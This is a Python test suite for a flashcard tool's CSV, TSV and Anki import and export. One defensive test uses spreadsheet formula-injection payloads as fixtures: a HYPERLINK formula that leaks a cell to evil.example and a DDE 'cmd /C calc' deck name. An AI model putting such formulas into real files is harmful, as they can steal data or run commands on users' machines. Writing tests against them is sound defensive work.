from datetime import UTC, datetime
from pathlib import Path

import pytest
from helpers import cli_peak_mb
from sqlalchemy import func, select

from pmcards import importer, schema
from pmcards.errors import DeckFormatError
from pmcards.formats import csv_deck
from pmcards.formats.options import ParseOptions
from pmcards.store import Store


def write(tmp_path: Path, data: str | bytes, name: str = "deck.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def test_header_row_bom_crlf_and_quoted_newlines(tmp_path: Path) -> None:
    data = (
        "\ufeffid,deck,section,tags,Question,Answer,why\r\n"
        'q1,Prep,Metrics,a b,"What first?","The metric.\r\nThen guardrails.",because\r\n'
        "\r\n"
        "q2,Prep,,,Second?,Yes,\r\n"
    )
    decks = csv_deck.parse(write(tmp_path, data))
    assert [d.name for d in decks] == ["Prep"]
    first, second = decks[0].notes
    assert first.guid == "q1" and first.kind == "qa" and first.section == "Metrics"
    assert first.fields == {
        "front": "What first?",
        "back": "The metric.\nThen guardrails.",
        "why": "because",
    }
    assert first.tags == ("a", "b") and first.line == 2
    assert second.line == 5


def test_kinds_are_inferred_and_ids_generated(tmp_path: Path) -> None:
    data = "front,back,not,but,situation,bad,good,text\n,,x,y,,,,\n,,,,s,b,g,\n,,,,,,,{{c1::z}}\n"
    deck = csv_deck.parse(write(tmp_path, data, "mine.csv"))[0]
    assert deck.name == "mine" and not deck.named
    assert [n.kind for n in deck.notes] == ["reframe", "contrast", "cloze"]
    assert all(n.guid.startswith("csv-") for n in deck.notes)


def test_tsv(tmp_path: Path) -> None:
    decks = csv_deck.parse(write(tmp_path, "front\tback\nA, b\tc\n", "d.tsv"), ParseOptions("tsv"))
    assert decks[0].notes[0].fields == {"front": "A, b", "back": "c"}


ANKI_EXPORT = (
    "#separator:tab\n#html:true\n#guid column:1\n#notetype column:2\n#deck column:3\n"
    "#tags column:6\n"
    'iUDR9qlX{>\tBasic\tParent::Child\tQ <b>bold</b>\tA &amp; B<br>line2\t"a#b t1"\n'
    "JMy0@2DZ{|\tBasic (and reversed card)\tParent::Child\tF2\tB2\t\n"
    "fe&jfh?gpN\tCloze\tOther\t{{c1::Paris}} is in {{c2::France}}\tgeo\t\n"
)


def test_anki_text_export(tmp_path: Path) -> None:
    decks = csv_deck.parse(write(tmp_path, ANKI_EXPORT, "notes.txt"), ParseOptions("tsv"))
    by_name = {d.name: d for d in decks}
    assert set(by_name) == {"Parent::Child", "Other"}
    basic, reverse = by_name["Parent::Child"].notes
    assert basic.guid == "anki-" + b"iUDR9qlX{>".hex()
    assert basic.fields == {"front": "Q <b>bold</b>", "back": "A & B\nline2"}
    assert basic.tags == ("a#b", "t1")  # Anki's tags as they are
    assert reverse.kind == "qa_reversed"
    (cloze,) = by_name["Other"].notes
    assert cloze.kind == "cloze" and cloze.fields == {
        "text": "{{c1::Paris}} is in {{c2::France}}",
        "why": "geo",
    }
    assert decks[0].warnings == []
    assert all(d.from_anki for d in decks)  # notes follow Anki's decks


def test_anki_optional_reverse_and_unused_fields(tmp_path: Path) -> None:
    data = (
        "#separator:tab\n#html:false\n#notetype column:1\n"
        "Basic (optional reversed card)\tF\tB\ty\n"
        "Basic (optional reversed card)\tF2\tB2\t\n"
        "Basic\tF3\tB3\tstray\n"
    )
    deck = csv_deck.parse(write(tmp_path, data, "n.txt"), ParseOptions("tsv"))[0]
    assert [n.kind for n in deck.notes] == ["qa_reversed", "qa", "qa"]
    assert deck.warnings == [
        f"{tmp_path}/n.txt: note type 'Basic': field 3 has no place in a pmcards note: not kept "
        "(line 6)"
    ]


def test_anki_columns_header(tmp_path: Path) -> None:
    data = "#separator:Comma\n#columns:Front,Back,Tags\n#deck:Imported\nq,a,x y\n"
    deck = csv_deck.parse(write(tmp_path, data))[0]
    assert deck.name == "Imported" and deck.named
    assert deck.notes[0].fields == {"front": "q", "back": "a"} and deck.notes[0].tags == ("x", "y")


def test_anki_export_made_by_anki(tmp_path: Path) -> None:
    from anki_tools import sample_collection

    col = sample_collection(tmp_path / "anki")
    out = tmp_path / "notes.txt"
    col.export_note_csv(
        out_path=str(out),
        limit=None,
        with_html=True,
        with_tags=True,
        with_deck=True,
        with_notetype=True,
        with_guid=True,
    )
    col.close()
    decks = importer.parse_files([out])
    notes = {n.fields.get("front", n.fields.get("text")): n for d in decks for n in d.notes}
    assert set(notes) == {
        "Q <b>bold</b>",
        "F2",
        "{{c1::Paris}} is in {{c2::France}}",
        '<img src="pic.png">',
    }
    assert notes["F2"].kind == "qa_reversed"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            "front,back,colour\n",
            "deck.csv:1: unknown column 'colour' (known: id, deck, section, kind, tags, lint_ignore, front, back, not, but, situation, bad, good, text, prompt, rubric, why)",
        ),
        ("front,back\na,b,c\n", "deck.csv:2: row 1 has 3 columns; the header has 2"),
        (
            "front,back\na,b\nc,\n",
            "deck.csv:3: row 2: missing field 'back' (kind 'qa' needs front, back)",
        ),
        ('front,back\na,"b\n', "deck.csv:2: malformed CSV: unexpected end of data"),
        ("kind,front,back\nbogus,a,b\n", "deck.csv:2: row 1: unknown kind 'bogus'"),
        (
            "id,front,back\nx,a,b\nx,c,d\n",
            "deck.csv:3: row 2: duplicate note id 'x' (first at line 2)",
        ),
        ("id,front,back\nbad id,a,b\n", "deck.csv:2: row 1: invalid id 'bad id'"),
        (
            "kind,front,back,not\nqa,a,b,c\n",
            "deck.csv:2: row 1: column 'not' has no place in a 'qa' note",
        ),
        ("#separator:Comma\n#colour:red\n", "deck.csv:2: unknown header line '#colour'"),
        (
            "kind,text\ncloze,no deletion\n",
            "deck.csv:2: row 1: a cloze needs at least one deletion",
        ),
    ],
)
def test_errors_name_file_and_row(tmp_path: Path, data: str, message: str) -> None:
    with pytest.raises(DeckFormatError) as info:
        csv_deck.parse(write(tmp_path, data))
    assert str(info.value).replace(str(tmp_path) + "/", "").startswith(message)


def test_anki_column_labels_pmcards_does_not_know_are_labels(tmp_path: Path) -> None:
    data = "#separator:Comma\n#html:false\n#columns:Front,Back,Colour,Page\nq,a,red,12\nq2,a2,,\n"
    deck = csv_deck.parse(write(tmp_path, data))[0]
    assert [n.fields for n in deck.notes] == [
        {"front": "q", "back": "a"},
        {"front": "q2", "back": "a2"},
    ]
    assert deck.warnings == [
        f"{tmp_path}/deck.csv: column 'Colour': pmcards has no place for it: its cells are not imported",
        f"{tmp_path}/deck.csv: column 'Page': pmcards has no place for it: its cells are not imported",
    ]


def test_export_writes_ankis_header_lines_and_reads_back(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from pmcards.exporters import exporter
    from pmcards.formats.options import ExportOptions
    from pmcards.store import Store

    source = write(
        tmp_path,
        "id,deck,section,kind,tags,front,back,not,but,why\n"
        'n1,Prep,Metrics,qa,C++ Q&A,"a < b","line\nbreak",,,because\n'
        "n2,Prep,,reframe,,,,accuracy,tolerance,\n",
    )
    store = Store(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    now = datetime(2026, 3, 2, tzinfo=UTC)
    with store.write() as conn:
        importer.apply(conn, importer.parse_files([source]), now)
    with store.read() as conn:
        text = exporter("tsv")(conn, ExportOptions(format="tsv", now=now)).decode()
    store.close()
    lines = text.split("\r\n")
    assert lines[:7] == [
        "#separator:Tab",
        "#html:true",
        "#guid column:1",
        "#notetype column:2",
        "#deck column:3",
        "#tags column:4",
        "#columns:guid\tnotetype\tdeck\ttags\tAnki field 1\tAnki field 2\tkind\tsection"
        "\tfront\tback\tnot\tbut\twhy",
    ]
    # Anki's side: a stock note type and its fields as HTML; then pmcards' own columns.
    assert lines[7].split("\t")[:8] == [
        '"n1"',
        '"Basic"',
        '"Prep"',
        '"C++ Q&A"',
        '"a &lt; b"',
        '"line<br>break<div class=why>because</div>"',
        '"qa"',
        '"Metrics"',
    ]
    path = write(tmp_path, text, "back.tsv")
    (deck,) = csv_deck.parse(path, ParseOptions("tsv"))
    assert [(n.guid, n.kind, n.fields, n.tags, n.section) for n in deck.notes] == [
        (
            "n1",
            "qa",
            {"front": "a < b", "back": "line\nbreak", "why": "because"},
            ("C++", "Q&A"),
            "Metrics",
        ),
        ("n2", "reframe", {"not": "accuracy", "but": "tolerance"}, (), ""),
    ]
    assert deck.warnings == [] and not deck.from_anki


def test_formulas_are_neutralised_and_restored(tmp_path: Path) -> None:
    # Issue 16: cells starting =, +, - or @ ran as formulas in a spreadsheet.
    import csv
    import io
    from datetime import UTC, datetime

    from pmcards.exporters import exporter
    from pmcards.formats.options import ExportOptions
    from pmcards.formats.parsed import ParsedDeck, ParsedNote
    from pmcards.queries import Scope
    from pmcards.store import Store

    now = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
    fronts = {
        "f1": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "f2": "+1+1",
        "f3": "-2 is a number",
        "f4": "@SUM(A1:A9)",
        "f5": "'=already guarded",
        "f6": "'quoted, not a formula",
        "f7": "plain = fine",
    }
    notes = [
        ParsedNote(
            guid=g, kind="qa", fields={"front": f, "back": "b"}, tags=(), section="", line=None
        )
        for g, f in fronts.items()
    ]
    source = Store(f"sqlite:///{tmp_path / 'a.sqlite3'}")
    with source.write() as conn:
        importer.apply(
            conn, [ParsedDeck(path="<test>", name="=cmd|' /C calc'!A0", notes=notes)], now
        )
    with source.read() as conn:
        data = exporter("csv")(conn, ExportOptions(format="csv", scope=Scope(), now=now))
    source.close()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    # What a spreadsheet would run: no cell starts with a formula character.
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
    # After Anki's header lines: guid, note type, deck, tags, Anki's two fields (HTML, the
    # first character an entity), kind, section, then pmcards' fields (an apostrophe).
    by_id = {row[0]: row for row in rows[7:]}
    assert by_id["f1"][8] == "'" + fronts["f1"] and by_id["f1"][2] == "'=cmd|' /C calc'!A0"
    assert by_id["f1"][4] == '&#61;HYPERLINK("https://evil.example/?"&amp;A1,"click")'
    assert by_id["f3"][4] == "&#45;2 is a number" and by_id["f4"][4] == "&#64;SUM(A1:A9)"
    assert by_id["f5"][8] == "''=already guarded" and by_id["f6"][8] == "'quoted, not a formula"
    assert by_id["f7"][8] == "plain = fine" and by_id["f7"][4] == "plain = fine"
    path = write(tmp_path, data, "out.csv")
    (deck,) = csv_deck.parse(path)
    assert deck.name == "=cmd|' /C calc'!A0"
    assert {n.guid: n.fields["front"] for n in deck.notes} == fronts
    # Someone else's CSV keeps its apostrophes: only pmcards' own header is read back so.
    other = write(tmp_path, "Front,Back\n'=x,y\n", "other.csv")
    assert csv_deck.parse(other)[0].notes[0].fields["front"] == "'=x"


def _big_csv(
    path: Path, notes: int, header: str = "front,back\n", bad_at: int | None = None
) -> Path:
    """A CSV of `notes` two-field notes over 1 MB (so it streams); the row of note `bad_at`
    has no back."""
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(header)
        for n in range(1, notes + 1):
            back = "" if n == bad_at else f"A strong answer {n} that defines failure first."
            out.write(f"Situation {n}: the interviewer asks about metric {n % 97}.,{back}\n")
    assert path.stat().st_size > csv_deck.STREAM_FROM_BYTES
    return path


def test_a_big_file_streams_with_the_same_notes_as_read_whole(tmp_path: Path) -> None:
    """Streamed, the notes come a batch at a time and are the very notes the whole-file
    parse gives, lines included; Anki's header lines and a row of only spaces too."""
    path = _big_csv(tmp_path / "big.csv", 25_000, "#separator:comma\n#columns:Front,Back\n")
    with path.open("a", encoding="utf-8") as out:
        out.write("  ,  \nlast,one\r\n")
    whole = csv_deck.parse(path, ParseOptions("csv"))
    (streamed,) = csv_deck.parse(path, ParseOptions("csv", stream=True))
    assert streamed.stream is not None and not streamed.notes
    batches = list(streamed.batches())
    assert [len(b) for b in batches[:2]] == [csv_deck.ROWS_PER_BATCH] * 2
    notes = [note for batch in batches for note in batch]
    assert notes == whole[0].notes and len(notes) == 25_001
    assert notes[-1].line == 25_004 and notes[-1].fields == {"front": "last", "back": "one"}
    assert (streamed.name, streamed.named, streamed.from_anki) == ("big", False, True)
    assert list(streamed.batches()) == batches  # read again from the start


def test_a_big_file_with_a_deck_column_is_read_whole(tmp_path: Path) -> None:
    path = _big_csv(tmp_path / "big.csv", 20_000, "front,back,deck\n")
    (deck,) = csv_deck.parse(path, ParseOptions("csv", stream=True))
    assert deck.stream is None and len(deck.notes) == 20_000


def test_a_bad_row_late_in_a_streamed_file_imports_nothing(store: Store, tmp_path: Path) -> None:
    """The error surfaces inside the import's transaction, which rolls back: the notes of
    the batches already written go with it, and the message names the row's line."""
    path = _big_csv(tmp_path / "big.csv", 30_000, bad_at=29_000)
    decks = importer.parse_files([path], stream=True)
    assert decks[0].stream is not None
    with pytest.raises(DeckFormatError) as info, store.write() as conn:
        importer.apply(conn, decks, datetime.now(UTC))
    assert str(info.value) == (
        f"{path}:29001: row 29000: missing field 'back' (kind 'qa' needs front, back)"
    )
    with store.read() as conn:
        assert conn.scalar(select(func.count()).select_from(schema.notes)) == 0
        assert conn.scalar(select(func.count()).select_from(schema.decks)) == 0


def test_a_streamed_file_that_is_not_utf8_late_names_its_line(tmp_path: Path) -> None:
    path = _big_csv(tmp_path / "big.csv", 30_000)
    with path.open("ab") as out:
        out.write(b"caf\xe9,au lait\n")
    (deck,) = csv_deck.parse(path, ParseOptions("csv", stream=True))
    with pytest.raises(DeckFormatError) as info:
        for _ in deck.batches():
            pass
    assert str(info.value) == f"{path}:30002: not valid UTF-8 text"


def test_importing_100k_csv_notes_stays_under_100_mb(tmp_path: Path) -> None:
    """The whole `pmcards import` of a 100,000-note CSV, in a process of its own: the file
    streams, so its peak memory stays under 100 MB (it was 209 MB read whole)."""
    path = _big_csv(tmp_path / "big.csv", 100_000)
    peak_mb = cli_peak_mb(["import", str(path)], tmp_path / "home", ["100000 added"])
    assert peak_mb < 100, f"peak memory {peak_mb} MB importing 100,000 CSV notes"
